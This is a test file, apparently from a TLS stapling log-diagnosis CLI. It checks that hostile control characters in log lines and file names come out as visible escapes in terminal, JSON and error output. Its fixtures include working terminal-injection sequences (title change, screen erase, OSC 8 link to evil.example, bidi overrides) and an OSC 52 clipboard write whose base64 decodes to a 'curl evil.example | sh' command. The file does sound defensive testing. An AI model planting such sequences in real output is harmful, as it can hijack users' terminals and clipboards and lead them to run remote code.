/**
 * Terminal safety (issue 6): log content chosen by strangers must never act on the user's terminal.
 * Real rule-matching lines (from the rules' samples) carry control characters, ANSI CSI/OSC sequences
 * (colour, title change, OSC 8 hyperlink, OSC 52 clipboard write), the 8-bit C1 CSI and bidi
 * overrides (and invisible characters: zero-width, Unicode tags) in the certificate path, the responder name, the client address and the virtual host,
 * and the log file's own name carries them too. Human output must show them as visible escapes;
 * JSON/NDJSON must escape them by JSON's rules and parse back to the original text.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { Report } from '../src/findings/analyzer.js';
import { PLAIN_ENV, startCli, tempDir, waitForOutput } from './helpers/cli.js';
import { expectCleanStderr, runCliAsync } from './helpers/robust.js';

const ESC = '\u001b';
const BEL = '\u0007';
/**
 * Every kind of hostile content, without the characters the rule regexes stop at (white space,
 * `,`, `"`, `'`, `]`). Note that JavaScript's `\s` includes U+2028, so it is only in {@link QUOTED}.
 */
const HOSTILE =
  `a${ESC}[31mred${ESC}[0m` + // SGR colour
  `${ESC}]0;pwned-title${BEL}` + // OSC 0: window title
  `${ESC}]8;;http://evil.example/${ESC}\\link${ESC}]8;;${ESC}\\` + // OSC 8 hyperlink
  `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${BEL}` + // OSC 52: write the clipboard
  `\u009b2J` + // 8-bit C1 CSI: erase display
  `\u202egnp.\u2066x\u2069\u200f` + // bidi: RLO, LRI…PDI, RLM
  `\u200b\u0008\u007f\u0085z` + // zero-width space, BS, DEL, NEL
  `\u{e0041}\u{e0042}`; // Unicode tag characters: invisible text
/** For quoted fields (certificate paths, Apache's responder): white space and the line separator too. */
const QUOTED = `${HOSTILE}\u2028 \u000b\u000c x`;
/** For a client address: no `]` (it would end the field), so CSI, C1 and bidi only. */
const HOSTILE_CLIENT = `${ESC}[2J${ESC}[31m192.0.2.1\u202e:8080\u009b1m\u0008`;

/** Raw characters that must never reach a terminal from log content. */
const RAW_UNSAFE =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb\u{e0000}-\u{e007f}]/u;

// Real lines (rule samples; AH01974/AH01977/AH02604 as mod_ssl writes them), with hostile values.
const LINES = [
  `2018/09/27 10:38:51 [error] 1043#0: OCSP responder timed out (110: Connection timed out) while requesting certificate status, responder: ocsp.${HOSTILE}.example, peer: 2.21.67.65:80, certificate: "/etc/ssl/${QUOTED}/fullchain.pem"`,
  `nginx: [warn] "ssl_stapling" ignored, issuer certificate not found for certificate "/path/${QUOTED}/fullchain.cer"`,
  `[Fri May 09 23:36:44.055900 2014] [ssl:error] [pid 1491:tid 139921007208320] (111)Connection refused: [client ${HOSTILE_CLIENT}] AH01974: could not connect to OCSP responder '${QUOTED} responder'`,
  // mod_ssl confirms a transport failure as a stapling failure with AH01941 from the same thread.
  '[Fri May 09 23:36:44.055950 2014] [ssl:error] [pid 1491:tid 139921007208320] AH01941: stapling_renew_response: responder error',
  `[Sat Jun 01 18:02:11.467856 2019] [ssl:error] [pid 4676:tid 664] AH02604: Unable to configure certificate www.${HOSTILE}.example:443:0 for stapling`,
  `[Fri May 09 23:36:44.055900 2014] [ssl:error] [pid 1491] (70007)The timeout specified has expired: [client ${HOSTILE_CLIENT}] AH01977: failed reading line from OCSP server`,
  '[Fri May 09 23:36:44.055950 2014] [ssl:error] [pid 1491] AH01941: stapling_renew_response: responder error',
];

let dir: string;
let cleanup: () => void;
let log: string;
beforeAll(() => {
  ({ dir, cleanup } = tempDir('sd-terminal-'));
  log = path.join(dir, `hostile-${ESC}]0;file-title${BEL}-\u202e-name.log`);
  fs.writeFileSync(log, `${LINES.join('\n')}\n`);
});
afterAll(() => cleanup());

/** Remove the SGR colour sequences chalk itself writes (`ESC[…m`), leaving any others. */
function withoutChalk(text: string): string {
  return text.replace(/\u001b\[[0-9;]*m/g, '');
}

function expectTerminalSafe(text: string): void {
  const i = text.search(RAW_UNSAFE);
  if (i !== -1)
    throw new Error(
      `raw control character U+${text.charCodeAt(i).toString(16).padStart(4, '0')} in output near: ${JSON.stringify(text.slice(Math.max(0, i - 60), i + 20))}`,
    );
}

describe('human output', () => {
  test.each([
    ['without colour', PLAIN_ENV],
    ['with colour (FORCE_COLOR=3)', { ...PLAIN_ENV, NO_COLOR: undefined, FORCE_COLOR: '3' }],
  ])('%s: every hostile character is a visible escape, in every place log content appears', async (_name, env) => {
    const r = await runCliAsync(['--no-live', '--fail-on', 'never', log], { env: env as NodeJS.ProcessEnv });
    expect(r.code).toBe(0);
    expectCleanStderr(r.stderr);
    const out = withoutChalk(r.stdout);
    expectTerminalSafe(out);
    expect(out).not.toContain(ESC);
    // The escapes are visible …
    const shown = '\\e]0;pwned-title\\x07';
    expect(out).toContain(shown);
    expect(out).toContain('\\e]8;;http://evil.example/\\e\\link');
    expect(out).toContain('\\e]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07');
    expect(out).toContain('\\x9b2J\\u202egnp.\\u2066x\\u2069\\u200f\\u200b\\x08\\x7f\\x85z\\u{e0041}\\u{e0042}\\u2028 \\x0b\\x0c x');
    expect(out).toContain('\\e[2J\\e[31m192.0.2.1\\u202e:8080\\x9b1m\\x08');
    // … in each place: subject rows, finding message, fix texts and commands, evidence, file names.
    expect(out).toMatch(/certificate: +\/etc\/ssl\/a\\e\[31mred/);
    expect(out).toMatch(/responder: +ocsp\.a\\e\[31mred/);
    expect(out).toMatch(/vhost: +www\.a\\e\[31mred/);
    expect(out).toMatch(/^ {2}\S.*certificate "\/path\/a\\e\[31mred/m); // a finding's message sentence
    expect(out).toMatch(/^ {2}[Tt]he OCSP responder ocsp\.a\\e\[31mred/m);
    // A command never carries a value with control characters at all (issue 16.1): a placeholder instead.
    expect(out).toMatch(/\$ curl -sv -o \/dev\/null --max-time 10 http:\/\/RESPONDER\//);
    expect(out).toMatch(/openssl s_client -connect HOST:443 -servername HOST /);
    expect(out.split('\n').filter((l) => /^ +\$ /.test(l) && l.includes('\\e'))).toEqual([]);
    expect(out).toContain('hostile-\\e]0;file-title\\x07-\\u202e-name.log:1');
    expect(out).toContain('[client \\e[2J\\e[31m192.0.2.1'); // the client address, in the evidence line
  });

  test('live mode: the finding blocks, the update line and the summary are escaped too', async () => {
    const child = startCli(['--fail-on', 'never']);
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    const exited = new Promise<number | null>((resolve) => child.on('close', (c) => resolve(c)));
    try {
      const first = waitForOutput(child, (out) => out.includes('responder-timeout'));
      child.stdin.write(`${LINES[0]}\n`);
      await first;
      const all = waitForOutput(child, (out) => out.includes('stapling-doctor: '));
      child.stdin.end(`${LINES.join('\n')}\n`); // a repeat of the first: an update line at the end
      const out = await all;
      expect(await exited).toBe(0);
      expect(out).toMatch(/↻ responder-timeout certificate "\/etc\/ssl\/a\\e\[31mred/);
      expectTerminalSafe(out);
      expect(stderr).toBe('');
    } finally {
      child.kill('SIGKILL');
    }
  });
});

describe('JSON and NDJSON', () => {
  test('escaped by JSON rules, no raw control or bidi character, and parsed back to the original text', async () => {
    const [j, n] = await Promise.all([
      runCliAsync(['--format', 'json', '--fail-on', 'never', log]),
      runCliAsync(['--format', 'ndjson', '--fail-on', 'never', log]),
    ]);
    for (const r of [j, n]) {
      expect(r.code).toBe(0);
      expectTerminalSafe(r.stdout);
      expect(r.stdout).toContain('\\u001b]0;pwned-title\\u0007');
      expect(r.stdout).toContain('\\u009b2J\\u202egnp.');
      expect(r.stdout).toContain('z\\udb40\\udc41\\udb40\\udc42');
    }
    const report = JSON.parse(j.stdout) as Report;
    const certs = report.findings.map((f) => f.subject.certificate).filter(Boolean);
    expect(certs).toEqual(expect.arrayContaining([`/etc/ssl/${QUOTED}/fullchain.pem`, `/path/${QUOTED}/fullchain.cer`]));
    const responders = report.findings.map((f) => f.subject.responder).filter(Boolean);
    expect(responders).toEqual(expect.arrayContaining([`ocsp.${HOSTILE}.example`, `${QUOTED} responder`]));
    expect(report.findings.map((f) => f.subject.vhost)).toContain(`www.${HOSTILE}.example:443:0`);
    const texts = report.findings.flatMap((f) => f.evidence.map((e) => e.text));
    expect(texts).toEqual(expect.arrayContaining(LINES));
    expect(new Set(report.findings.flatMap((f) => f.evidence.map((e) => e.file)))).toEqual(new Set([log]));
    expect(report.inputs[0]!.file).toBe(log);
    // NDJSON carries the same strings.
    const ndjsonCerts = n.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { subject?: { certificate?: string } })
      .map((e) => e.subject?.certificate);
    expect(ndjsonCerts).toContain(`/etc/ssl/${QUOTED}/fullchain.pem`);
  });
});

describe('stderr', () => {
  test('input errors and usage errors quote hostile names as visible escapes', async () => {
    const missing = path.join(dir, `missing-${ESC}]0;t${BEL}\u202e.log`);
    const r = await runCliAsync(['--format', 'json', missing, log]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(`stapling-doctor: ${dir}/missing-\\e]0;t\\x07\\u202e.log: no such file or directory\n`);
    const usage = await runCliAsync(['--format', `x${ESC}]52;c;ZXZpbA==${BEL}`, log]);
    expect(usage.code).toBe(2);
    expectTerminalSafe(usage.stderr);
    expect(usage.stderr).toContain('x\\e]52;c;ZXZpbA==\\x07');
  });
});
